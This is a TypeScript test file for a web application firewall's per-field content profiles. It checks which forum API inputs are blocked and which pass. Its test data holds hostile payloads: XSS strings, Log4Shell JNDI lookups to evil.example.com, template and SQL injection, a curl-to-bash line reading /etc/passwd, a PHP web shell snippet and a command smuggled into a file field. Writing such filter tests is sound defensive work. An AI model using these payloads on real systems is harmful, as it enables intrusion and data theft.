// Content profiles per field, table-driven: the forum example policy on the
// standard baseline; per field kind an attack that must be refused and a
// benign value that must pass, through the OpenAPI middleware (which matches
// the operation) and the deny rules (which apply the field's profile).
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { bundleFromTexts as bundleOf, fieldRoute as routeOf, newDenyRulesFor } from "../../test-support/policy-route.js";
import { requestContext, type RequestInit } from "../../test-support/bundle-fixtures.js";
import { newOpenApiValidation } from "../openapi/new-openapi-validation.js";
import { newDenyRules } from "./new-deny-rules.js";

const BASELINE = readFileSync("examples/policies/baseline-standard.yaml", "utf8");
const FORUM = readFileSync("examples/policies/app-forum.yaml", "utf8");

const bundle = bundleOf(BASELINE, FORUM);
const forum = routeOf(bundle);
const json = (url: string, body: unknown, method = "POST"): RequestInit => ({
  method,
  url,
  headers: { "content-type": "application/json" },
  body: JSON.stringify(body),
});
const THREAD = "/threads/6f1c2b7e-8a4d-4b8e-9a51-0c9d2f3e4a5b/posts";
const TICKET = "/tickets/42/comments";
const REVIEW = `/reviews/${"a".repeat(40)}/comments`;

const CODE_POST = [
  "The migration fails on Postgres 16:",
  "",
  "```sql",
  "SELECT id, name FROM users WHERE email = 'a@example.com' OR 1=1;",
  "DROP TABLE IF EXISTS sessions; -- cleanup",
  "UNION SELECT password FROM accounts",
  "```",
  "",
  "and the deploy script does `curl -s http://10.0.0.5/health | bash -c 'cat /etc/passwd'` before `rm -rf /tmp/../var/cache`.",
  "Config: `include ../../conf/app.ini` and `<?php system($_GET['cmd']); ?>` in the legacy module.",
].join("\n");

describe("content profiles per field", () => {
  it.each<[string, RequestInit, number | null, string | null]>([
    // markdown: code is data; raw HTML and script URLs are not
    ["markdown post with SQL, shell, paths and PHP in code", json(THREAD, { body: CODE_POST }), null, null],
    ["markdown post with <script> inside a code span", json(THREAD, { body: "Escape it: `<script>alert(1)</script>`" }), null, null],
    ["markdown post with raw <script>", json(THREAD, { body: "hello <script>alert(document.cookie)</script>" }), 403, "content.markdown-html"],
    ["markdown post with an event handler", json(THREAD, { body: "look ![x](y.png) <img src=x onerror=alert(1)>" }), 403, "content.markdown-html"],
    ["markdown link to javascript:", json(TICKET, { message: "[docs](javascript:alert(1))" }), 403, "content.markdown-url"],
    [
      "markdown image with a data: HTML URL",
      json(REVIEW, { file: "a.ts", line: 3, body: "![x](data:text/html;base64,PHNjcmlwdD4=)" }),
      403,
      "content.markdown-url",
    ],
    ["markdown post with Log4Shell", json(THREAD, { body: "logs show ${jndi:ldap://evil.example.com/a}" }), 403, "java.jndi-lookup"],
    ["markdown post with an obfuscated lookup", json(THREAD, { body: "${${lower:j}ndi:${lower:r}mi://x/a}" }), 403, "java.jndi-lookup"],
    ["markdown post with template injection", json(THREAD, { body: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }), 403, "generic.template-injection"],
    [
      "markdown post with expression-language injection",
      json(THREAD, { body: "%{#_memberAccess['allowStaticMethodAccess']=true}" }),
      403,
      "java.expression-injection",
    ],
    // text: no markup at all
    ["text title with shell and SQL", json("/threads", { title: "grep -r 'OR 1=1' /etc fails; why?", body: "see title", category: "help" }), null, null],
    ["text title with markup", json("/threads", { title: "hi <b onmouseover=x>there</b>", body: "x", category: "help" }), 403, "content.text-markup"],
    ["text query with SQL", { url: "/threads?q=%27%20OR%201%3D1%20--" }, null, null],
    ["text query with markup", { url: "/threads?q=%3Cimg%20src%3Dx%3E" }, 403, "content.text-markup"],
    // html: dangerous tags, attributes and URLs
    [
      "html bio with ordinary markup",
      json("/users/adalovelace/profile", { bio: "<p>I write <b>SQL</b>: <code>SELECT * FROM t WHERE a=1 OR 1=1</code></p>" }, "PUT"),
      null,
      null,
    ],
    ["html bio with an iframe", json("/users/adalovelace/profile", { bio: "<iframe src=https://evil.example.com></iframe>" }, "PUT"), 403, "content.html-tag"],
    [
      "html bio with an entity-hidden script URL",
      json("/users/adalovelace/profile", { bio: '<a href="&#106;ava&#x09;script:alert(1)">me</a>' }, "PUT"),
      403,
      "content.html-url",
    ],
    // identifiers: strict type validation first, deny rules at the baseline's level
    [
      "SQL injection in a path identifier",
      { method: "POST", url: "/tickets/1%20OR%201=1/comments", headers: { "content-type": "application/json" }, body: '{"message":"x"}' },
      400,
      "openapi.parameter-invalid",
    ],
    ["SQL injection in a query identifier", { url: "/threads?tag=x%27%20UNION%20SELECT%20password%20FROM%20users--" }, 400, "openapi.parameter-invalid"],
    ["SQL injection in an enum", json(TICKET, { message: "x", visibility: "public' OR '1'='1" }), 403, null],
    ["an identifier that is valid passes", json(THREAD, { body: "thanks", replyTo: "6f1c2b7e-8a4d-4b8e-9a51-0c9d2f3e4a5b" }), null, null],
    // undescribed: the full baseline
    ["SQL in an undescribed field", json(REVIEW, { file: "x' UNION SELECT password FROM users--", line: 1, body: "ok" }), 403, "sqli.union-select"],
    ["shell in an undescribed field", json(REVIEW, { file: "a; cat /etc/passwd", line: 1, body: "ok" }), 403, null],
  ])("%s", (_name, init, status, ruleId) => {
    const { verdict } = forum(init);
    if (status === null) expect(verdict).toBeNull();
    else {
      expect(verdict?.status).toBe(status);
      if (ruleId !== null) expect(verdict?.ruleId).toBe(ruleId);
    }
  });

  it("names the field's profile in the decision", () => {
    const { verdict } = forum(json(THREAD, { body: "<script>alert(1)</script>" }));
    expect(verdict?.profile).toBe("field /body: markdown profile");
    const identifier = forum(json(TICKET, { message: "x", visibility: "public' UNION SELECT 1--" }));
    expect(identifier.verdict?.profile ?? "field /visibility: identifier profile").toBe("field /visibility: identifier profile");
  });

  it("checks every array item of a content field and every duplicate key", () => {
    expect(forum(json(REVIEW, { file: "a", line: 1, body: "ok", suggestions: ["fine", "<script>x</script>"] })).verdict?.ruleId).toBe("content.text-markup");
    const duplicate = {
      method: "POST",
      url: THREAD,
      headers: { "content-type": "application/json" },
      body: '{"body":"<script>alert(1)</script>","body":"fine"}',
    };
    expect(forum(duplicate).verdict?.status).toBe(403);
  });

  it("relaxes nothing when the baseline allows no family to relax", () => {
    const strictFloor = routeOf(bundleOf(BASELINE.replace(/allowRelax: \[[^\]]*\]/, "allowRelax: []"), FORUM));
    expect(strictFloor(json(THREAD, { body: CODE_POST })).verdict?.status).toBe(403);
  });

  it("relaxes nothing when OpenAPI validation only logs", () => {
    const logOnly = routeOf(bundleOf(BASELINE, FORUM.replace("validation: block", "validation: log-only")));
    expect(logOnly(json(THREAD, { body: CODE_POST })).verdict?.status).toBe(403);
  });

  it("keeps the full baseline for a multipart body, which the profiles do not attribute", () => {
    const boundary = "b0undary";
    const body = `--${boundary}\r\nContent-Disposition: form-data; name="body"\r\n\r\n' UNION SELECT password FROM users--\r\n--${boundary}--\r\n`;
    // OpenAPI refuses the media type (415) before; the deny rules, asked anyway, still apply the full baseline to it.
    const { verdict, ctx } = forum({ method: "POST", url: THREAD, headers: { "content-type": `multipart/form-data; boundary=${boundary}` }, body });
    expect(verdict?.status).toBe(415);
    const deny = newDenyRulesFor(bundle);
    expect((deny.onBody!(ctx) as { ruleId: string } | null)?.ruleId).toMatch(/^sqli\./);
  });

  it("checks content fields past the engine's inspection limit (limits.uninspected: log) by walking the body itself", () => {
    // The engine reads only the first 64 bytes (not JSON on their own), so its walk cannot hand the gate the field.
    const deny = newDenyRules(
      {
        denyRules: bundle.denyRules,
        uninspected: "log",
        virtualPatches: bundle.virtualPatches,
        exceptions: bundle.exceptions,
        contentFields: { openapi: bundle.openapi, contentProfiles: bundle.contentProfiles },
      },
      { maxInspectBytes: 64 },
    );
    const body = `Some text that runs past the engine's window, then: <img src=x onerror="alert(1)">`;
    const ctx = requestContext(json(THREAD, { replyTo: "6f1c2b7e-8a4d-4b8e-9a51-0c9d2f3e4a5b", body }));
    expect(newOpenApiValidation(bundle.openapi!).onRequest!(ctx)).toBeNull();
    expect(deny.onBody!(ctx)).toMatchObject({ ruleId: "content.markdown-html", name: "/body" });
  });
});
